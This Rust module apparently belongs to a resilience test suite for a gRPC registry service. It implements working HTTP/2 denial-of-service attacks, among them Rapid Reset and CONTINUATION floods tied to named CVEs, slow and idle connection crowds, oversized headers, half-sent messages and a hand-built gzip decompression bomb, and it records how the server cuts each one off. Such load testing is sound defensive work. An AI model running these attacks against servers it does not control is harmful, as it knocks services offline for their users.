//! What hostile peers do.

use std::net::SocketAddr;
use std::time::Duration;

use anyhow::ensure;
use tokio::task::JoinSet;

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PAYLOAD_MOST, PREFACE, call_headers,
    frame, greeting, literal, message, reset,
};
use super::wire::{Seen, Wire};

const METHOD: &str = "/handslag.registry.v1.RegistryService/LookUpOrganisation";
/// Streams that are opened and reset with one write.
const RESETS_AT_ONCE: u32 = 100;
/// Pause between two bytes of somebody who dawdles.
const DAWDLE: Duration = Duration::from_millis(500);
/// Bytes of the headers of one call that are too many: 64 times what is allowed.
const GIANT_HEADER_BYTES: usize = 1024 * 1024;
/// Calls with half a message on one connection: as many as it may have.
const HALVES: u32 = 200;
/// Bytes that the compressed message would have, if somebody unpacked it.
const BOMB_BYTES: usize = 64 * 1024 * 1024;

/// How one attack ended.
#[derive(Clone, Copy, Debug)]
pub(super) struct Ended {
    /// How many peers there were.
    pub(super) peers: usize,
    /// How long the last of them was there, or waited for its answer.
    pub(super) after: Duration,
    /// What the server did.
    pub(super) how: &'static str,
}

/// The attacks.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Attack {
    /// Opens streams and resets them at once (CVE-2023-44487).
    RapidReset,
    /// Greets a byte at a time.
    SlowPreface,
    /// Connects and says nothing.
    Silence,
    /// Greets, and then neither calls nor answers.
    DeafAfterGreeting,
    /// Many who greet and never call.
    IdleCrowd,
    /// Headers of a megabyte.
    GiantHeaders,
    /// Headers that never end (CVE-2024-27316).
    EndlessHeaders,
    /// A small message that would be a large one.
    Bomb,
    /// As many calls as may be, each with half a message.
    HalfMessages,
}

impl Attack {
    pub(super) const ALL: [Self; 9] = [
        Self::RapidReset,
        Self::SlowPreface,
        Self::Silence,
        Self::DeafAfterGreeting,
        Self::IdleCrowd,
        Self::GiantHeaders,
        Self::EndlessHeaders,
        Self::Bomb,
        Self::HalfMessages,
    ];

    /// The name of the others' times.
    pub(super) fn others(self) -> &'static str {
        match self {
            Self::RapidReset => "others' look-ups during rapid resets, p99",
            Self::SlowPreface => "others' look-ups during slow greetings, p99",
            Self::Silence => "others' look-ups beside silent peers, p99",
            Self::DeafAfterGreeting => "others' look-ups beside deaf peers, p99",
            Self::IdleCrowd => "others' look-ups beside a crowd that never calls, p99",
            Self::GiantHeaders => "others' look-ups during giant headers, p99",
            Self::EndlessHeaders => "others' look-ups during endless headers, p99",
            Self::Bomb => "others' look-ups during compressed bombs, p99",
            Self::HalfMessages => "others' look-ups beside half-sent messages, p99",
        }
    }

    /// The name of the peers' own time.
    pub(super) fn until_closed(self) -> &'static str {
        match self {
            Self::RapidReset => "rapid resets until the connection is closed",
            Self::SlowPreface => "a slow greeting until the connection is closed",
            Self::Silence => "silence until the connection is closed",
            Self::DeafAfterGreeting => "deafness after the greeting until the connection is closed",
            Self::IdleCrowd => "a crowd that never calls until the last connection is closed",
            Self::GiantHeaders => "giant headers until the call is refused",
            Self::EndlessHeaders => "endless headers until the connection is closed",
            Self::Bomb => "a compressed bomb until the call is refused",
            Self::HalfMessages => "half-sent messages until the last call is given up",
        }
    }

    /// Attacks once and watches what becomes of it. `crowd` is the number of peers of a crowd.
    pub(super) async fn run(self, address: SocketAddr, crowd: usize) -> anyhow::Result<Ended> {
        match self {
            Self::RapidReset => rapid_reset(address).await,
            Self::SlowPreface => slow_preface(address).await,
            Self::Silence => alone(address, &[]).await,
            Self::DeafAfterGreeting => alone(address, &greeting()).await,
            Self::IdleCrowd => idle_crowd(address, crowd).await,
            Self::GiantHeaders => giant_headers(address).await,
            Self::EndlessHeaders => endless_headers(address).await,
            Self::Bomb => bomb(address).await,
            Self::HalfMessages => half_messages(address).await,
        }
    }
}

fn closed(wire: &Wire) -> Ended {
    Ended {
        peers: 1,
        after: wire.since.elapsed(),
        how: "the connection is closed",
    }
}

fn refused(wire: &Wire) -> Ended {
    Ended {
        how: "the call is refused; the connection breaks no rule and may stay",
        ..closed(wire)
    }
}

async fn rapid_reset(address: SocketAddr) -> anyhow::Result<Ended> {
    let mut wire = Wire::connect(address).await?;
    let mut open = wire.write(&greeting()).await;
    let headers = call_headers(METHOD, &[]);
    let mut stream = 1;
    while open {
        let mut burst = Vec::new();
        for _ in 0..RESETS_AT_ONCE {
            burst.extend(frame(HEADERS, END_HEADERS | END_STREAM, stream, &headers));
            burst.extend(reset(stream));
            stream += 2;
        }
        open = wire.write(&burst).await && !wire.is_closed_already().await;
        ensure!(
            stream < u32::from(u16::MAX) * 64,
            "the server lets a peer reset millions of streams"
        );
    }
    wire.closed().await?;
    Ok(closed(&wire))
}

async fn slow_preface(address: SocketAddr) -> anyhow::Result<Ended> {
    let mut wire = Wire::connect(address).await?;
    for byte in PREFACE {
        tokio::time::sleep(DAWDLE).await;
        if wire.is_closed_already().await || !wire.write(&[*byte]).await {
            break;
        }
    }
    wire.closed().await?;
    Ok(closed(&wire))
}

/// Says this and nothing more.
async fn alone(address: SocketAddr, words: &[u8]) -> anyhow::Result<Ended> {
    let mut wire = Wire::connect(address).await?;
    wire.fall_silent();
    wire.write(words).await;
    wire.closed().await?;
    Ok(closed(&wire))
}

/// A crowd comes at 5 000 a second: all at once, the callers would wait for the crowd's own tasks in
/// this process, and not for the service.
const CROWD_TOGETHER: usize = 10;
/// Pause between two such groups.
const ARRIVAL_PAUSE: Duration = Duration::from_millis(2);

async fn idle_crowd(address: SocketAddr, crowd: usize) -> anyhow::Result<Ended> {
    let mut peers = JoinSet::new();
    let mut arrivals = tokio::time::interval(ARRIVAL_PAUSE);
    for number in 0..crowd {
        if number % CROWD_TOGETHER == 0 {
            arrivals.tick().await;
        }
        peers.spawn(async move {
            let mut wire = Wire::connect(address).await?;
            // They answer pings: what they lack is a call.
            wire.write(&greeting()).await;
            wire.closed().await?;
            anyhow::Ok(wire.since.elapsed())
        });
    }
    let mut after = Duration::ZERO;
    let mut joined = 0;
    while let Some(peer) = peers.join_next().await {
        // Who finds no room in the kernel's queue or no file is not among the crowd.
        if let Ok(stayed) = peer? {
            joined += 1;
            after = after.max(stayed);
        }
    }
    ensure!(joined > 0, "nobody of the crowd could connect");
    Ok(Ended {
        peers: joined,
        after,
        how: "every connection without a call is closed",
    })
}

async fn giant_headers(address: SocketAddr) -> anyhow::Result<Ended> {
    let mut wire = Wire::connect(address).await?;
    wire.write(&greeting()).await;
    let giant = "x".repeat(GIANT_HEADER_BYTES);
    let block = call_headers(METHOD, &[("x-giant", &giant)]);
    let parts: Vec<&[u8]> = block.chunks(PAYLOAD_MOST).collect();
    for (number, part) in parts.iter().enumerate() {
        let kind = if number == 0 { HEADERS } else { CONTINUATION };
        let ends = if number == 0 { END_STREAM } else { 0 };
        let whole = if number + 1 == parts.len() {
            END_HEADERS
        } else {
            0
        };
        if !wire.write(&frame(kind, ends | whole, 1, part)).await {
            break;
        }
    }
    match wire.seen().await? {
        Seen::Closed => Ok(closed(&wire)),
        Seen::Answered(_) => Ok(refused(&wire)),
    }
}

async fn endless_headers(address: SocketAddr) -> anyhow::Result<Ended> {
    let mut wire = Wire::connect(address).await?;
    wire.write(&greeting()).await;
    let mut open = wire
        .write(&frame(HEADERS, 0, 1, &call_headers(METHOD, &[])))
        .await;
    let mut block = Vec::new();
    literal(&mut block, "x-more", &"x".repeat(8_000));
    let more = frame(CONTINUATION, 0, 1, &block);
    while open {
        open = wire.write(&more).await;
        ensure!(
            wire.since.elapsed() < Duration::from_secs(60),
            "the server reads headers without end"
        );
    }
    wire.closed().await?;
    Ok(closed(&wire))
}

async fn bomb(address: SocketAddr) -> anyhow::Result<Ended> {
    let mut wire = Wire::connect(address).await?;
    wire.write(&greeting()).await;
    let headers = call_headers(METHOD, &[("grpc-encoding", "gzip")]);
    wire.write(&frame(HEADERS, END_HEADERS, 1, &headers)).await;
    let packed = gzip_of_zeros(BOMB_BYTES);
    let body = message(true, u32::try_from(packed.len())?, &packed);
    for (number, part) in body.chunks(PAYLOAD_MOST).enumerate() {
        let last = (number + 1) * PAYLOAD_MOST >= body.len();
        let flags = if last { END_STREAM } else { 0 };
        if !wire.write(&frame(DATA, flags, 1, part)).await {
            break;
        }
    }
    match wire.seen().await? {
        Seen::Closed => Ok(closed(&wire)),
        Seen::Answered(_) => Ok(refused(&wire)),
    }
}

async fn half_messages(address: SocketAddr) -> anyhow::Result<Ended> {
    let mut wire = Wire::connect(address).await?;
    wire.write(&greeting()).await;
    let headers = call_headers(METHOD, &[]);
    // It says that a thousand bytes follow, and ten do.
    let half = message(false, 1_000, &[0; 10]);
    for call in 0..HALVES {
        let stream = 2 * call + 1;
        wire.write(&frame(HEADERS, END_HEADERS, stream, &headers))
            .await;
        wire.write(&frame(DATA, 0, stream, &half)).await;
    }
    let mut answered = std::collections::BTreeSet::new();
    while answered.len() < usize::try_from(HALVES)? {
        match wire.seen().await? {
            Seen::Closed => return Ok(closed(&wire)),
            Seen::Answered(stream) => {
                answered.insert(stream);
            }
        }
    }
    Ok(Ended {
        how: "every call is given up; the connection answers pings and may stay",
        ..closed(&wire)
    })
}

/// So many zeros, packed (RFC 1951 and 1952) by one rule that is repeated: 258 times the byte
/// before. The checksum at the end is missing; who notices has unpacked everything.
fn gzip_of_zeros(bytes: usize) -> Vec<u8> {
    const HEAD: [u8; 10] = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    const REPEATED: usize = 258;
    // The codes of the fixed tree: a zero, 258 bytes from one before, the end.
    let (zero, repeat, end) = ("00110000", "1100010100000", "0000000");
    let last_block_fixed = "110";
    let repeats = repeat.repeat(bytes / REPEATED);
    let bits = [last_block_fixed, zero, &repeats, end].concat();
    let packed = bits.as_bytes().chunks(8).map(|eight| {
        // The first bit is the lowest.
        eight
            .iter()
            .rev()
            .fold(0, |byte, bit| byte << 1 | (bit - b'0'))
    });
    HEAD.into_iter().chain(packed).collect()
}

#[cfg(test)]
mod tests {
    use super::gzip_of_zeros;

    #[test]
    fn a_bomb_is_two_thousandths_of_what_it_holds() {
        let packed = gzip_of_zeros(1024 * 1024);
        assert!((6_000..8_000).contains(&packed.len()), "{}", packed.len());
        // The last block, by the fixed tree, and the first bits of a zero: 110 00110, lowest first.
        assert_eq!(packed[10], 0b0110_0011);
    }
}
